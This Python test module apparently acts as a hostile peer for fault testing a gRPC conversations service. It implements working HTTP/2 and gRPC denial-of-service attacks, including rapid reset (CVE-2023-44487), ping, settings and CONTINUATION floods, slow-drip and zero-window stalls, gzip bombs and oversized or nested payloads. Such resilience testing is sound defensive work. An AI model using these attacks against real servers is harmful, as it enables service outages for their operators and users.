"""`python -m tests.faults.attacker`: a hostile peer, in a process of its own.

The job comes as JSON on standard input. Each attack is bounded by its seconds and by its own counts.
"""

import asyncio
import gzip
import itertools
import json
import sys
import time
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import asdict
from typing import Any

import grpc
import grpc.aio
import uvloop
from conversations.v1 import conversations_service_pb2 as pb
from conversations.v1.access_service_pb2 import CheckAccessRequest, Permission
from conversations.v1.content_pb2 import Opaque
from grpc_health.v1 import health_pb2

from tests.faults import http2
from tests.faults.attack import Attack, by_name, connection
from tests.faults.http2 import Flag, Kind
from tests.faults.http_attacker import HTTP_ATTACKS
from tests.support.build import new_item, user_message

_MIB = 1024 * 1024
_SERVICE = "/conversations.v1.ConversationsService"
_CREATE, _LIST, _APPEND = f"{_SERVICE}/CreateItems", f"{_SERVICE}/ListItems", f"{_SERVICE}/AppendItems"
_GET_BATCH, _CHECK_ACCESS = f"{_SERVICE}/BatchGetItems", "/conversations.v1.AccessService/CheckAccess"
_OPTIONS = [
    ("grpc.max_send_message_length", -1),
    ("grpc.max_receive_message_length", -1),
    ("grpc.use_local_subchannel_pool", 1),
    ("grpc.enable_retries", 0),
]


# -- frames that no library sends


@asynccontextmanager
async def _connection(attack: Attack, hello: bytes) -> AsyncIterator[asyncio.StreamWriter]:
    async with connection(attack) as writer:
        writer.write(hello)
        yield writer


async def _flood(attack: Attack, connections: int, chunks: Callable[[], Any]) -> int:
    """Writes what ``chunks`` yields on so many connections; one that is closed is made again. The number of chunks."""
    end = time.monotonic() + attack.seconds
    sent = 0

    async def one() -> None:
        nonlocal sent
        while time.monotonic() < end:
            with suppress(OSError):
                async with _connection(attack, http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0)) as writer:
                    for chunk in chunks():
                        if time.monotonic() > end or writer.transport.is_closing():
                            break
                        writer.write(chunk)
                        await writer.drain()
                        sent += 1
                        await asyncio.sleep(0.001)  # at most 1,000 chunks a second
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))
    return sent


async def rapid_reset(attack: Attack) -> int:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    block = http2.request_headers(_LIST, attack.token)
    cancel = (8).to_bytes(4, "big")

    def chunks() -> Any:
        for first in range(1, 2**30, 100):
            streams = range(first, first + 100, 2)
            yield b"".join(
                http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS)
                + http2.frame(Kind.RST_STREAM, stream, cancel)
                for stream in streams
            )

    return await _flood(attack, 8, chunks)


async def ping_flood(attack: Attack) -> int:
    """Pings without end, each of which wants an answer (CVE-2019-9512)."""
    return await _flood(attack, 8, lambda: itertools.repeat(http2.frame(Kind.PING, 0, bytes(8)) * 100))


async def settings_flood(attack: Attack) -> int:
    """Settings without end, each of which wants an answer (CVE-2019-9515)."""
    return await _flood(attack, 8, lambda: itertools.repeat(http2.settings() * 100))


async def continuation_flood(attack: Attack) -> int:
    """Headers that do not end (CVE-2024-27316)."""
    start = http2.frame(Kind.HEADERS, 1, http2.request_headers(_LIST, attack.token))
    more = http2.frame(Kind.CONTINUATION, 1, http2.headers([("x-more", "x" * 4000)]))
    return await _flood(attack, 8, lambda: itertools.chain([start], itertools.repeat(more)))


async def empty_data_flood(attack: Attack) -> int:
    """Data without a byte (CVE-2019-9518)."""
    start = http2.frame(Kind.HEADERS, 1, http2.request_headers(_CREATE, attack.token), Flag.END_HEADERS)
    empty = http2.frame(Kind.DATA, 1) * 100
    return await _flood(attack, 8, lambda: itertools.chain([start], itertools.repeat(empty)))


async def _held(attack: Attack, connections: int, hello: bytes, drip: Callable[[int], bytes]) -> int:
    """Connections that are kept; ``drip``: what is sent on them in each second, by its number. How many there were."""
    async with AsyncExitStack() as stack:
        held = [await stack.enter_async_context(_connection(attack, hello)) for _ in range(connections)]
        for second in range(int(attack.seconds)):
            for writer in held:
                writer.write(drip(second))
            await asyncio.sleep(1)
    return connections


async def silent(attack: Attack) -> int:
    """Two hundred connections that say nothing, and two hundred that say nothing after the preface."""
    counts = await asyncio.gather(
        _held(attack, 200, b"", lambda _: b""),
        _held(attack, 200, http2.PREFACE + http2.settings(), lambda _: b""),
    )
    return sum(counts)


async def many_connections(attack: Attack) -> int:
    """Three thousand connections that have begun to speak HTTP/2."""
    return await _held(attack, 3_000, http2.PREFACE + http2.settings(), lambda _: b"")


async def slow_drip(attack: Attack) -> int:
    """A thousand calls whose bodies come byte by byte."""
    block, streams = http2.request_headers(_CREATE, attack.token), range(1, 101, 2)
    hello = http2.PREFACE + http2.settings()
    hello += b"".join(http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS) for stream in streams)
    body = http2.message(bytes(1000))
    return await _held(
        attack,
        20,
        hello,
        lambda second: b"".join(http2.frame(Kind.DATA, stream, body[second : second + 1]) for stream in streams),
    )


async def zero_window(attack: Attack) -> int:
    """Large answers are asked for and never taken."""
    block = http2.request_headers(_LIST, attack.token)
    body = pb.ListItemsRequest(conversation_id=attack.conversation_id, page_size=100).SerializeToString()
    calls = b"".join(http2.call(stream, block, body) for stream in range(1, 41, 2))
    hello = http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0, INITIAL_WINDOW_SIZE=0)
    return await _held(attack, 20, hello, lambda second: calls if second == 0 else b"")


async def malformed_streams(attack: Attack) -> int:
    """Streams of which each holds what is no message, ten in a chunk."""
    block = http2.request_headers(_APPEND, attack.token)

    def chunks() -> Any:
        for first in itertools.count(1, 20):
            yield b"".join(http2.call(stream, block, b"\xff\xff\xff") for stream in range(first, first + 20, 2))

    return await _flood(attack, 4, chunks)


async def partial_messages(attack: Attack) -> int:
    """A hundred streams, again and again, of which each sends 15 MiB but for the last byte. The bytes sent."""
    return await _partial_messages(attack, _APPEND)


async def partial_messages_for_reflection(attack: Attack) -> int:
    """The same, to the method that everybody may call."""
    return await _partial_messages(attack, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")


async def _partial_messages(attack: Attack, method: str) -> int:
    body = memoryview(http2.message(bytes(15 * _MIB)))[:-1]
    block = http2.request_headers(method, attack.token)
    return await _send_again(attack, 4, block, body, streams=25)


async def bombs_for_health(attack: Attack) -> int:
    """15 MiB of zeros, which gzip makes 15 KiB of, fifty at once on each of eight connections. The bytes sent."""
    return await _bombs(attack, "/grpc.health.v1.Health/Check")


async def bombs(attack: Attack) -> int:
    """The same to a method that takes items."""
    return await _bombs(attack, _CREATE)


async def _bombs(attack: Attack, method: str) -> int:
    body = memoryview(http2.message(gzip.compress(bytes(15 * _MIB)), compressed=True))
    block = http2.request_headers(method, attack.token, grpc_encoding="gzip")
    return await _send_again(attack, 8, block, body, streams=50, last=Flag.END_STREAM)


async def _send_again(attack: Attack, connections: int, *what: Any, **more: Any) -> int:
    """Sends the same on new connections, at most twice a second: no flood of calls. The bytes sent."""
    end = time.monotonic() + attack.seconds

    async def one() -> int:
        sent = 0
        while time.monotonic() < end:
            sent += await _send(attack, end, *what, **more)
            await asyncio.sleep(0.5)
        return sent

    return sum(await asyncio.gather(*(one() for _ in range(connections))))


async def _send(
    attack: Attack, end: float, block: bytes, body: memoryview, streams: int, last: Flag = Flag.NONE
) -> int:
    """Sends ``body`` on each stream of a new connection, as its windows permit, until all have ended. The bytes sent.

    ``end``: when to leave anyway. ``last``: the flags of the last frame of a stream.
    """
    host, _, port = attack.address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    flow, frames, sent = http2.FlowControl(), http2.Frames(), 0
    left = dict.fromkeys(range(1, 2 * streams, 2), body)
    writer.write(http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0))
    writer.writelines(http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS) for stream in left)
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(end - time.monotonic()):
            while left and (data := await reader.read(256 * 1024)):
                for kind, flags, stream, payload in frames.feed(data):
                    flow.update(kind, flags, stream, payload)
                    if kind in {Kind.SETTINGS, Kind.PING} and not flags & Flag.ACK:
                        writer.write(http2.frame(Kind(kind), 0, payload if kind == Kind.PING else b"", Flag.ACK))
                    if kind == Kind.RST_STREAM or (kind == Kind.HEADERS and flags & Flag.END_STREAM):
                        left.pop(stream, None)
                for stream, rest in left.items():
                    while room := flow.take(stream, len(rest)):
                        flag = last if room == len(rest) else Flag.NONE
                        writer.write(http2.frame(Kind.DATA, stream, rest[:room], flag))
                        rest = rest[room:]  # noqa: PLW2901
                        sent += room
                    left[stream] = rest
                await writer.drain()
    writer.transport.abort()
    return sent


# -- requests that a library sends


@asynccontextmanager
async def _channels(attack: Attack, count: int) -> AsyncIterator[list[grpc.aio.Channel]]:
    async with AsyncExitStack() as stack:
        yield [
            await stack.enter_async_context(grpc.aio.insecure_channel(attack.address, options=_OPTIONS))
            for _ in range(count)
        ]


async def _unary(channel: grpc.aio.Channel, attack: Attack, method: str, body: bytes, **more: Any) -> None:
    call = channel.unary_unary(method, lambda sent: sent, lambda got: got)
    with suppress(grpc.aio.AioRpcError):
        await call(body, metadata=attack.metadata, timeout=attack.seconds, **more)


async def _again(attack: Attack, connections: int, at_once: int, method: str, body: bytes, **more: Any) -> int:
    """One and the same call, as often as the time allows, and how often that was."""
    end = time.monotonic() + attack.seconds
    sent = 0
    async with _channels(attack, connections) as channels:

        async def one(channel: grpc.aio.Channel) -> None:
            nonlocal sent
            while time.monotonic() < end:
                await _unary(channel, attack, method, body, **more)
                sent += 1

        await asyncio.gather(*(one(channel) for channel in channels for _ in range(at_once)))
    return sent


async def empty_ids(attack: Attack) -> int:
    """100,000 empty ids, which gzip makes a few hundred bytes of."""
    body = pb.BatchGetItemsRequest(conversation_id=attack.conversation_id, item_ids=[""] * 100_000)
    return await _again(attack, 4, 2, _GET_BATCH, body.SerializeToString(), compression=grpc.Compression.Gzip)


async def empty_permissions(attack: Attack) -> int:
    """40,000 empty permissions, which everybody may ask about."""
    body = CheckAccessRequest(conversation_id=attack.conversation_id, permissions=[Permission()] * 40_000)
    return await _again(attack, 4, 2, _CHECK_ACCESS, body.SerializeToString(), compression=grpc.Compression.Gzip)


async def nested_json(attack: Attack) -> int:
    """An item of 15 MiB of lists in a list."""
    json_ = b"[" + b"[]," * (5 * _MIB - 1) + b"[]]"
    body = pb.CreateItemsRequest(
        conversation_id=attack.conversation_id, items=[new_item(unknown=Opaque(type="future", json=json_))]
    )
    return await _again(attack, 1, 2, _CREATE, body.SerializeToString())


def _large(mebibytes: float) -> bytes:
    text = "x" * int(mebibytes * _MIB)
    items = [user_message(text[at : at + 9 * _MIB]) for at in range(0, len(text), 9 * _MIB)]
    return pb.CreateItemsRequest(conversation_id="conv_nowhere", items=items).SerializeToString()


async def large_bodies(attack: Attack) -> int:
    """Eight calls of 20 MiB on eight connections, for as long as it is let."""
    return await _again(attack, 8, 1, _CREATE, _large(20))


async def many_bodies(attack: Attack) -> int:
    """A hundred calls of 15 MiB at once on one connection."""
    body = _large(15)
    async with _channels(attack, 1) as channels:
        await asyncio.gather(*(_unary(channels[0], attack, _CREATE, body) for _ in range(100)))
    return 100


async def many_bodies_for_small(attack: Attack) -> int:
    """A hundred calls of 15 MiB at once, to a method that takes 64 KiB, again and again."""
    return await _again(attack, 1, 100, _LIST, _large(15))


async def many_bodies_for_health(attack: Attack) -> int:
    """The same, to the method that everybody may call."""
    return await _again(attack, 1, 100, "/grpc.health.v1.Health/Check", _large(15))


async def many_bodies_of_four(attack: Attack) -> int:
    """Four clients, each with sixteen calls of 15 MiB at once."""
    return await _again(attack, 4, 16, _CREATE, _large(15))


async def idle_streams(attack: Attack) -> int:
    """Sixteen streams that send one message of 12 MiB and are then kept."""
    body = _large(12)
    async with _channels(attack, 2) as channels:
        calls = []
        for channel in channels * 8:
            stream = channel.stream_stream(_APPEND, lambda sent: sent, lambda got: got)
            call = stream(metadata=attack.metadata, timeout=attack.seconds + 5)
            with suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
                await call.write(body)
                await call.read()
            calls.append(call)
        await asyncio.sleep(attack.seconds)
        for call in calls:
            call.cancel()
    return len(calls)


async def health_watches(attack: Attack) -> int:
    """Two thousand watches of health that nobody has to prove a right to."""
    body = health_pb2.HealthCheckRequest(service="readiness").SerializeToString()
    async with _channels(attack, 20) as channels:

        async def one(channel: grpc.aio.Channel) -> None:
            call = channel.unary_stream("/grpc.health.v1.Health/Watch", lambda sent: sent, lambda got: got)
            with suppress(grpc.aio.AioRpcError):
                async for _ in call(body, timeout=attack.seconds):
                    pass

        await asyncio.gather(*(one(channel) for channel in channels for _ in range(100)))
    return 2000


ATTACKS = HTTP_ATTACKS | by_name(
    rapid_reset,
    ping_flood,
    settings_flood,
    continuation_flood,
    empty_data_flood,
    silent,
    many_connections,
    slow_drip,
    zero_window,
    malformed_streams,
    partial_messages,
    partial_messages_for_reflection,
    empty_ids,
    empty_permissions,
    nested_json,
    large_bodies,
    many_bodies,
    many_bodies_for_small,
    many_bodies_for_health,
    bombs_for_health,
    bombs,
    many_bodies_of_four,
    idle_streams,
    health_watches,
)


async def launch(attack: Attack) -> int:
    """Attacks from a process of its own, to the end.

    Raises:
        RuntimeError: The attacker broke.
    """
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "tests.faults.attacker"),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    output, errors = await process.communicate(json.dumps(asdict(attack)).encode())
    if process.returncode:
        raise RuntimeError(f"{attack.name}: {errors.decode()[-2000:]}")
    return int(output)


def main() -> None:
    """Does the job on standard input."""
    attack = Attack(**json.loads(sys.stdin.read()))
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        print(runner.run(ATTACKS[attack.name](attack)))


if __name__ == "__main__":
    main()
